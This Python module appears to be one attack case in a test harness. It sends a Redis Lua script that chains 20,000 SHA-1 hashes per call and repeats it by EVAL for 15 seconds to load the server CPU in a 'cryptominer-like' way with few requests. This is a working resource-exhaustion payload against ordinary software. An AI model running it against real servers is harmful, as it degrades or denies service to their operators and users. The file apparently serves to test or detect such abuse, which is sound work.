# SPDX-License-Identifier: Apache-2.0
"""Hashing inside the server, by a script that any client may send: it makes hardly a call."""
import time

KIND = "cryptominer-like load inside the process"
QUIET = True
SCRIPT = "local h = '' for i = 1, 20000 do h = redis.sha1hex(h .. i) end return h"
SERVICES = {"redis": SCRIPT}


def attack(t):
    client, out = t.module.Redis(t.host), None
    t.begin()
    end = time.monotonic() + 15
    while time.monotonic() < end:
        out = client("EVAL", t.how, 0)
    return out.decode() if isinstance(out, bytes) and len(out) == 40 else ""
